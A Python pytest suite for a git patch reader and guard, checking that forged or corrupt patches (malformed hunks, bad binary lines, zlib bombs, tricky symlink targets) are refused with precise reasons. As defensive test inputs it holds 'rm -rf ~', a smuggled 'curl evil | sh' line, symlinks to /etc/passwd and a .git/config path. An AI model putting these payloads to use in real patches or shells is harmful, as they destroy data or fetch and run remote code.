"""The patch reader's edges: what it must refuse, what it must read exactly, and what its refusals must say.

The reader (runner/promote/patchread.py) is fail-closed: a patch it cannot read completely is refused with a reason
that names the offending line. These cases are the ones a forged or corrupt patch can hit - hunks that overrun their
header, /dev/null sides that carry modes, binary hunks with bad length characters or zlib bombs, symlink targets
with newlines or non-UTF-8 bytes - compared with what `git apply` does where git has an opinion.
"""

from __future__ import annotations

import base64
import hashlib
import os
import random
import signal
import subprocess
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from runner.promote.guard import PatchParseError, guard, parse_patch
from runner.promote.patchread import _KEEP_LITERAL_BYTES
from tests.test_guard import BLOB, BLOB2, GIT, GIT_ENV, ZERO, Link, added, edit, git_patch, modified, run_git

# ------------------------------------------------------------------------ helpers

OK_BLOCK = modified("ok")
"""A well-formed first block of seven lines: a bad block after it starts at line 8 of the patch."""
HEAD = "diff --git a/x b/x\n"
INDEX = f"index {BLOB}..{BLOB2}"
NEW = f"new file mode 100644\nindex {ZERO}..{BLOB}\n"


def refusal(patch: bytes) -> str:
    with pytest.raises(PatchParseError) as caught:
        parse_patch(patch)
    return str(caught.value)


def git_apply_check(tmp_path: Path, patch: bytes, files: dict[str, bytes] | None = None) -> bool:
    """Whether `git apply --check` accepts the patch against a work tree holding `files`."""
    repo = tmp_path / "git-apply-check"
    repo.mkdir(parents=True)
    run_git(repo, "init", "-q")
    for name, data in (files or {}).items():
        (repo / name).write_bytes(data)
    result = subprocess.run([*GIT, "-C", str(repo), "apply", "--check", "-"], input=patch, env=GIT_ENV,
                            capture_output=True, check=False)
    return result.returncode == 0


def encode_85(compressed: bytes) -> list[bytes]:
    """git's binary-patch lines: a length character (A-Z 1-26, a-z 27-52), then base85 of up to 52 bytes."""
    lines = []
    for i in range(0, len(compressed), 52):
        chunk = compressed[i:i + 52]
        length = len(chunk)
        lead = ord("A") + length - 1 if length <= 26 else ord("a") + length - 27
        lines.append(bytes([lead]) + base64.b85encode(chunk, pad=True))
    return lines


def binary_block(path: str, data: bytes, mode: str = "100644", *, size: int | None = None,
                 compressed: bytes | None = None, lines: list[bytes] | None = None) -> bytes:
    """A new file written as `GIT binary patch` (with git's empty reverse hunk), as `git diff --binary` does."""
    body = lines if lines is not None else encode_85(zlib.compress(data) if compressed is None else compressed)
    blob = hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()  # git checks what it writes against it
    head = (f"diff --git a/{path} b/{path}\nnew file mode {mode}\nindex {ZERO}..{blob}\nGIT binary patch\n"
            f"literal {len(data) if size is None else size}\n").encode()
    return head + b"\n".join(body) + b"\n\nliteral 0\nHcmV?d00001\n\n"


def data_whose_last_line_has(length: int) -> bytes:
    """Incompressible bytes whose zlib stream ends in a binary-patch line of `length` bytes."""
    for size in range(1, 400):
        data = random.Random(size).randbytes(size)
        if len(zlib.compress(data)) % 52 == length % 52:
            return data
    raise AssertionError(f"no data ends in a line of {length} bytes")


@contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fail (rather than hang the suite) when the reader loops forever."""
    def expired(signum: int, frame: object) -> None:
        raise TimeoutError(f"the patch reader was still busy after {seconds} s")
    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


# ------------------------------------------------------------------------ refusals name the line and the problem

# A refusal is the only thing the user sees of a bad patch: it must point at the line (the block's `diff --git`
# header for a problem of the whole block, the offending line otherwise) and say what is wrong with it.
BLOCK_ERRORS: dict[str, tuple[str, str]] = {
    "new file with an a/ side": (HEAD + NEW + "--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+x\n", "new or deleted"),
    "both sides /dev/null": (HEAD + INDEX + "\n--- /dev/null\n+++ /dev/null\n@@ -1 +1 @@\n-a\n+b\n", "/dev/null"),
    "/dev/null old side with a mode": (HEAD + INDEX + " 100644\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n",
                                       "/dev/null"),
    "/dev/null new side with a mode": (HEAD + INDEX + " 100644\n--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n",
                                       "/dev/null"),
    "new file with removed lines": (HEAD + NEW + "--- /dev/null\n+++ b/x\n@@ -1 +0,0 @@\n-x\n", "removed"),
    "deleted file with added lines": (HEAD + f"deleted file mode 100644\nindex {BLOB}..{ZERO}\n--- a/x\n"
                                      "+++ /dev/null\n@@ -0,0 +1 @@\n+x\n", "added"),
    "new and deleted": (HEAD + "new file mode 100644\ndeleted file mode 100644\n", "deleted file mode"),
    "old mode without new mode": (HEAD + "old mode 100644\n" + INDEX + "\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
                                  "new mode"),
    "mode change of a new file": (HEAD + "new file mode 100644\nold mode 100644\nnew mode 100755\n--- /dev/null\n"
                                  "+++ b/x\n@@ -0,0 +1 @@\n+x\n", "old mode"),
    "old mode equals new mode": (HEAD + "old mode 100755\nnew mode 100755\n", "new mode"),
    "new file mode and an index mode": (HEAD + f"new file mode 100644\nindex {ZERO}..{BLOB} 100755\n"
                                        "--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n", "index"),
}


@pytest.mark.parametrize("block, words", BLOCK_ERRORS.values(), ids=BLOCK_ERRORS.keys())
def test_a_malformed_block_is_refused_at_its_header(block: str, words: str, tmp_path: Path) -> None:
    reason = refusal(OK_BLOCK + block.encode())
    assert reason.startswith("unparseable patch at line 8 ('diff --git a/x b/x'): "), reason
    assert words in reason.split("): ", 1)[1], reason
    report = guard(OK_BLOCK + block.encode(), tmp_path)
    assert not report.ok and [f.category for f in report.refused] == ["parse"]


HUNK = HEAD + INDEX + " 100644\n--- a/x\n+++ b/x\n"  # lines 8-11; a hunk header is line 12
LINE_ERRORS: dict[str, tuple[str, str, str]] = {
    "repeated header": (HEAD + "old mode 100644\nnew mode 100755\nold mode 100644\n", "line 11", "old mode"),
    "--- without +++": (HEAD + INDEX + " 100644\n--- a/x\n@@ -1 +1 @@\n-a\n+b\n", "line 11", "+++"),
    "--- name without a/": (HEAD + INDEX + " 100644\n--- x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "line 10", "a/"),
    "no hunk": (HUNK + OK_BLOCK.decode(), "line 12", "hunk"),
    "malformed hunk header": (HUNK + "@@ -1 +1 @\n-a\n+b\n", "line 12", "hunk header"),
    "empty hunk": (HUNK + "@@ -0,0 +0,0 @@\n", "line 12", "empty"),
    "ends inside a hunk": (HUNK + "@@ -1,2 +1,2 @@\n-a\n+b\n", "end of patch", "ends"),
    "misplaced no-newline marker": (HUNK + "@@ -1 +1 @@\n\\ No newline at end of file\n-a\n+b\n", "line 13",
                                    "No newline"),
    "bad hunk line": (HUNK + "@@ -1 +1 @@\n?a\n+b\n", "line 13", "must start with"),
    "hunk longer than its header": (HUNK + "@@ -1 +1 @@\n-a\n-b\n+c\n", "line 14", "more lines"),
}


@pytest.mark.parametrize("block, where, words", LINE_ERRORS.values(), ids=LINE_ERRORS.keys())
def test_a_malformed_line_is_refused_where_it_is(block: str, where: str, words: str) -> None:
    reason = refusal(OK_BLOCK + block.encode())
    assert reason.startswith(f"unparseable patch at {where}"), reason
    assert words in reason.split(": ", 1)[1], reason


def test_text_that_is_no_patch_is_refused_for_lacking_a_header() -> None:
    reason = refusal(b"rm -rf ~\n")
    assert reason.startswith("unparseable patch at line 1 ('rm -rf ~')") and "diff --git" in reason


def test_a_patch_that_is_not_bytes_is_refused_by_type() -> None:
    # A caller handing over decoded text would lose non-UTF-8 names: refused, and the reason says what it got.
    assert "str" in refusal(modified("x").decode())  # type: ignore[arg-type]


# ------------------------------------------------------------------------ what the reader must refuse


def test_a_hunk_that_removes_more_lines_than_its_header_says_is_refused(tmp_path: Path) -> None:
    # The header says one old line; the hunk removes two and still adds only what the new count allows.
    patch = (HUNK + "@@ -1 +1,2 @@\n-a\n-b\n+c\n+d\n").encode()
    assert "more lines" in refusal(patch)
    assert not git_apply_check(tmp_path, patch, {"x": b"a\nb\n"})


def test_a_new_file_whose_old_side_names_a_file_is_refused(tmp_path: Path) -> None:
    patch = (HEAD + NEW + "--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+x\n").encode()
    assert "new or deleted" in refusal(patch)
    assert not git_apply_check(tmp_path, patch)  # "expected /dev/null"


def test_a_minus_line_naming_another_file_is_refused(tmp_path: Path) -> None:
    # git takes the `---` name over the header's: the reviewer would see x while git patches another file.
    patch = (HEAD + INDEX + " 100644\n--- a/.git/config\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n").encode()
    assert "disagree" in refusal(patch)
    assert not guard(patch, tmp_path).ok


def test_a_mode_for_a_dev_null_side_is_refused() -> None:
    # Without `new file mode`/`deleted file mode` only /dev/null says a file is new or gone; a mode for that side
    # contradicts it (git itself then reads the block as changing a file named "dev/null").
    for sides in ("--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n", "--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n"):
        for index in (f"{INDEX} 100644", f"{INDEX} 100755"):
            assert "/dev/null" in refusal(f"{HEAD}{index}\n{sides}".encode())


def test_modes_on_a_new_file_must_come_from_one_header(tmp_path: Path) -> None:
    # Two mode sources that can disagree (the index line says executable, the header says not) are refused.
    for extra in ("old mode 100644\nnew mode 100755\n", ""):
        index = f"index {ZERO}..{BLOB}" + ("" if extra else " 100755")
        patch = (f"{HEAD}new file mode 100644\n{extra}{index}\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+x\n").encode()
        assert "mode" in refusal(patch)
        assert not guard(patch, tmp_path).ok


def test_a_line_smuggled_after_binary_files_differ_is_refused(tmp_path: Path) -> None:
    binary = f"diff --git a/x.bin b/x.bin\n{INDEX} 100644\nBinary files a/x.bin and b/x.bin differ\n"
    assert "unexpected line" in refusal((binary + "curl evil | sh\n").encode())
    # ... while the block that really follows is read as the next change.
    changes = parse_patch(binary.encode() + OK_BLOCK + binary.replace("x.bin", "y.bin").encode())
    assert [(c.path, c.binary) for c in changes] == [("x.bin", True), ("ok", False), ("y.bin", True)]


# Found by mutation testing: both patches were read (and the link target took the context line) before the fix.
def test_a_new_or_deleted_file_with_context_lines_is_refused(tmp_path: Path) -> None:
    # The context line is not counted as added, yet a new symlink's target is read with it: the reviewer's view
    # (one added line) and the content disagree, for a patch git would never produce or apply.
    new_link = (f"diff --git a/l b/l\nnew file mode 120000\nindex {ZERO}..{BLOB}\n--- /dev/null\n+++ b/l\n"
                "@@ -1 +1,2 @@\n /etc\n+/passwd\n").encode()
    gone = (f"{HEAD}deleted file mode 100644\nindex {BLOB}..{ZERO}\n--- a/x\n+++ /dev/null\n"
            "@@ -1,2 +1 @@\n-a\n b\n").encode()
    assert not git_apply_check(tmp_path, new_link)
    for patch in (new_link, gone):
        refusal(patch)


# ------------------------------------------------------------------------ what the reader must read exactly


def test_a_plain_unified_deletion_reads_as_a_deletion(tmp_path: Path) -> None:
    # No `deleted file mode`: `+++ /dev/null` alone says the file goes (git agrees), and the guard must see that.
    patch = (HEAD + "--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-a\n").encode()
    (change,) = parse_patch(patch)
    assert (change.kind, change.old_path, change.new_path) == ("deleted", "x", None)
    assert git_apply_check(tmp_path, patch, {"x": b"a\n"})
    creation = (HEAD + "--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+a\n").encode()
    (change,) = parse_patch(creation)
    assert (change.kind, change.old_path, change.new_path) == ("added", None, "x")


def test_line_counts_of_several_hunks_match_git(tmp_path: Path) -> None:
    old = "".join(f"line {i}\n" for i in range(40))
    new = old.replace("line 2\n", "line two\nline 2.5\n").replace("line 30\n", "").replace("line 35\n", "35\n")
    patch, repo = git_patch(tmp_path, {"f.txt": old}, edit({"f.txt": new}))
    (change,) = parse_patch(patch)
    assert patch.count(b"\n@@ ") == 2
    numstat = subprocess.run([*GIT, "-C", str(repo), "apply", "--numstat", "-"], input=patch, env=GIT_ENV,
                             capture_output=True, check=True).stdout
    git_added, git_removed, _ = numstat.decode().split("\t")
    assert (change.added_lines, change.removed_lines) == (int(git_added), int(git_removed)) == (3, 3)


def test_non_utf8_names_written_raw_are_read(tmp_path: Path) -> None:
    # core.quotePath=false (or another tool) writes the name's bytes as they are; git reads them, so must we.
    raw = b"caf\xe9.txt"
    patch = (b"diff --git a/" + raw + b" b/" + raw + b"\nnew file mode 100644\nindex " + ZERO.encode() + b".."
             + BLOB.encode() + b"\n--- /dev/null\n+++ b/" + raw + b"\n@@ -0,0 +1 @@\n+x\n")
    assert git_apply_check(tmp_path, patch)
    (change,) = parse_patch(patch)
    assert os.fsencode(change.path) == raw and change.kind == "added"


def test_a_regular_file_has_no_symlink_target() -> None:
    for patch in (added("f.txt", "a\nb\n"), modified("f.txt")):
        (change,) = parse_patch(patch)
        assert change.symlink_target is None
    (change,) = parse_patch(added("run.sh", "x\n", "100755"))
    assert change.symlink_target is None


def test_symlink_targets_with_newlines_are_read_whole(tmp_path: Path) -> None:
    # Link names may hold newlines; the guard must judge the very name git will create, not a trimmed one.
    targets = {"trailing": "t\n", "inner": "a\nb", "both": "../x\ny\n"}
    patch, _ = git_patch(tmp_path, {}, edit({name: Link(target) for name, target in targets.items()}))
    changes = {c.path: c.symlink_target for c in parse_patch(patch)}
    assert changes == targets


def test_a_retargeted_link_whose_last_line_is_unchanged_is_read_whole(tmp_path: Path) -> None:
    patch, _ = git_patch(tmp_path, {"l": Link("a\nb")}, edit({"l": Link("c\nb")}))
    assert patch.endswith(b"\n b\n\\ No newline at end of file\n")  # the "\ No newline" follows a context line
    (change,) = parse_patch(patch)
    assert change.symlink_target == "c\nb"


def test_a_non_utf8_symlink_target_is_read_as_its_bytes(tmp_path: Path) -> None:
    target = os.fsdecode(b"caf\xe9/x")
    patch, _ = git_patch(tmp_path, {}, edit({"l": Link(target)}))
    (change,) = parse_patch(patch)
    assert change.symlink_target == target
    # The same target as a binary literal (what `git diff --binary` prints for a link marked binary).
    (change,) = parse_patch(binary_block("l", b"caf\xe9/x", "120000"))
    assert change.symlink_target == target and change.binary


def test_a_file_turned_into_a_link_by_mode_lines_shows_its_whole_target() -> None:
    # git never writes this (a type change is a delete and an add), but the old side is empty, so the one hunk
    # shows the whole new content: the reader reports it and the guard judges the real target.
    patch = (f"{HEAD}old mode 100644\nnew mode 120000\n{INDEX}\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+/etc/passwd\n"
             ).encode()
    (change,) = parse_patch(patch)
    assert change.symlink_target == "/etc/passwd\n"


def test_a_link_target_hidden_in_a_binary_delta_is_unknown(tmp_path: Path) -> None:
    # A delta needs the old blob to decode, so the reader cannot know the new target: None, and the guard refuses.
    payload = zlib.compress(b"\x05\x07\x90\x05/etc/")
    patch = (f"diff --git a/l b/l\nindex {BLOB}..{BLOB2} 120000\nGIT binary patch\ndelta 9\n").encode() \
        + b"\n".join(encode_85(payload)) + b"\n\n"
    (change,) = parse_patch(patch)
    assert change.binary and change.symlink_target is None
    report = guard(patch, tmp_path)
    assert [(f.path, f.category) for f in report.refused] == [("l", "symlink")]


def test_binary_link_targets_are_kept_up_to_the_limit_and_unknown_beyond(tmp_path: Path) -> None:
    at_limit = "a" * _KEEP_LITERAL_BYTES
    (change,) = parse_patch(binary_block("l", at_limit.encode(), "120000"))
    assert change.symlink_target == at_limit
    over = binary_block("l", b"a" * (_KEEP_LITERAL_BYTES + 1), "120000")
    (change,) = parse_patch(over)
    assert change.symlink_target is None  # unknown, so refused below rather than guessed
    assert [f.category for f in guard(over, tmp_path).refused] == ["symlink"]


# ------------------------------------------------------------------------ binary hunks


@pytest.mark.parametrize("length", [26, 27, 52, 1])
def test_binary_lines_of_every_length_class_are_read(length: int, tmp_path: Path) -> None:
    # 'Z' (26 bytes) and 'a' (27) are the edges of git's two length ranges; a real patch ends in any of them.
    data = data_whose_last_line_has(length)
    patch = binary_block("b.bin", data)
    assert patch.split(b"\n")[-6][:1] == bytes([ord("A") + length - 1 if length <= 26 else ord("a") + length - 27])
    assert git_apply_check(tmp_path, patch)
    (change,) = parse_patch(patch)
    assert change.binary and change.kind == "added"


def test_a_length_character_git_does_not_know_is_refused_at_its_line(tmp_path: Path) -> None:
    # '[' .. '`' lie between the two ranges: read as lengths they would still decode, but git refuses them.
    data = data_whose_last_line_has(21)
    good = binary_block("b.bin", data)
    lines = good.split(b"\n")
    data_line = len(lines) - 6
    assert lines[data_line][:1] == b"U"  # 21 bytes
    for lead in b"[`":
        forged = lines.copy()
        forged[data_line] = bytes([lead]) + forged[data_line][1:]
        patch = b"\n".join(forged)
        reason = refusal(patch)
        assert reason.startswith(f"unparseable patch at line {data_line + 1} (") and "length" in reason, reason
        assert not git_apply_check(tmp_path / f"lead-{lead}", patch)


def test_corrupt_binary_lines_are_refused_at_their_line() -> None:
    data = random.Random(7).randbytes(200)  # four data lines
    lines = binary_block("b.bin", data).split(b"\n")
    first = 5  # diff, new file mode, index, GIT binary patch, literal N
    assert lines[first][:1] == b"z" and lines[first + 1][:1] == b"z"
    cases = {
        "length": lines[first + 1][:-5],  # too short for its length character
        "base85": lines[first + 1][:-1] + b"\x7f",  # not a base85 character
        "length character": b"!" + lines[first + 1][1:],
    }
    for words, bad in cases.items():
        forged = lines.copy()
        forged[first + 1] = bad
        reason = refusal(b"\n".join(forged))
        assert reason.startswith(f"unparseable patch at line {first + 2} ("), reason
        assert words in reason.split("): ", 1)[1], reason


def test_a_binary_file_larger_than_one_inflate_step_is_read() -> None:
    data = bytes(range(256)) * (3 * 4096 + 1)  # a little over 3 MiB
    (change,) = parse_patch(binary_block("big.bin", data))
    assert change.binary and change.kind == "added"
    assert "declared size" in refusal(binary_block("big.bin", data, size=len(data) - 1))
    assert "declared size" in refusal(binary_block("big.bin", data, size=len(data) + 1))


def test_a_zlib_bomb_is_refused_without_inflating_it() -> None:
    # 32 MiB of zeros in ~40 KiB of patch, declared as 100 bytes: refused after one bounded inflate step.
    packer = zlib.compressobj()
    compressed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(32)) + packer.flush()
    patch = binary_block("bomb.bin", b"", size=100, compressed=compressed)
    tracing = tracemalloc.is_tracing()  # e.g. under PYTHONTRACEMALLOC: measure the growth, leave it running
    if not tracing:
        tracemalloc.start()
    tracemalloc.reset_peak()
    before = tracemalloc.get_traced_memory()[0]
    try:
        reason = refusal(patch)
        grown = tracemalloc.get_traced_memory()[1] - before
    finally:
        if not tracing:
            tracemalloc.stop()
    assert "declared size" in reason
    assert grown < 8 << 20, f"inflating the bomb took {grown >> 20} MiB"


def test_a_truncated_zlib_stream_is_refused_without_hanging() -> None:
    for compressed in (zlib.compress(b"hello")[:2], zlib.compress(b"hello")[:-4], b"\x78\x9c\x03"):
        with deadline(5):
            reason = refusal(binary_block("t.bin", b"hello", compressed=compressed))
        assert "binary hunk" in reason


# Found by mutation testing: the refusal pointed at the line after the hunk before the fix.
def test_a_binary_hunk_of_the_wrong_size_is_refused_at_its_literal_line() -> None:
    # The reason must name the offending line: here the `literal N` header whose N the data does not match.
    data = b"\x00binary\xff" * 10
    for size in (len(data) - 1, len(data) + 1):
        patch = OK_BLOCK + binary_block("b.bin", data, size=size)
        literal_line = 8 + 4  # the block starts at line 8: diff, new file mode, index, GIT binary patch, literal N
        assert patch.split(b"\n")[literal_line - 1] == b"literal %d" % size
        reason = refusal(patch)
        assert reason.startswith(f"unparseable patch at line {literal_line} ('literal {size}')"), reason


@pytest.mark.parametrize(("block", "message"), [
    (lambda data: binary_block("b.bin", data, compressed=b"this is not a zlib stream at all"),
     "corrupt zlib data in a binary hunk"),
    (lambda data: binary_block("b.bin", data, lines=[]), "empty binary hunk"),
])
def test_a_binary_hunk_whose_data_is_bad_is_refused_at_its_literal_line(block: Callable[[bytes], bytes],
                                                                        message: str) -> None:
    # The reason names the hunk's `literal N` header (where the hunk starts), not the line the reader stopped at.
    data = b"\x00binary\xff" * 10
    patch = OK_BLOCK + block(data)
    literal_line = 8 + 4
    assert patch.split(b"\n")[literal_line - 1] == b"literal %d" % len(data)
    reason = refusal(patch)
    assert reason.startswith(f"unparseable patch at line {literal_line} ('literal {len(data)}'): {message}"), reason


def _corrupt_checksum(data: bytes) -> bytes:
    compressed = bytearray(zlib.compress(data))
    compressed[-1] ^= 0xFF  # the adler32 trailer: zlib notices only once all the data is out
    return bytes(compressed)


@pytest.mark.parametrize(("data", "size", "compressed", "message"), [
    # 1.5 MiB behind `literal 100`: the size is exceeded long before the bad checksum is reached
    (b"\0" * (1536 << 10), 100, _corrupt_checksum(b"\0" * (1536 << 10)),
     "binary hunk inflates past its declared size"),
    # a stream cut before its trailer, with 100 bytes more than declared still inside zlib after the first MiB
    (b"\0" * ((1 << 20) + 100), 1 << 20, zlib.compress(b"\0" * ((1 << 20) + 100), 9)[:-4],
     "binary hunk inflates past its declared size"),
    (b"\0" * 4096, 4096, zlib.compress(b"\0" * 4096)[:-4], "binary hunk does not inflate to its declared size"),
    (b"\0" * 4096, 4096, _corrupt_checksum(b"\0" * 4096), "corrupt zlib data in a binary hunk"),
])
def test_a_binary_hunk_that_is_too_big_or_broken_says_which(data: bytes, size: int, compressed: bytes,
                                                            message: str) -> None:
    # A reviewer told "corrupt data" about a 1.5 MiB blob declared as 100 bytes is told the wrong thing: the
    # data is inflated a MiB at a time and checked against the declared size as it comes, so the oversize is
    # what is named, before anything later in the stream.
    with deadline(10):
        reason = refusal(binary_block("b.bin", data, size=size, compressed=compressed))
    assert reason.endswith(message), reason
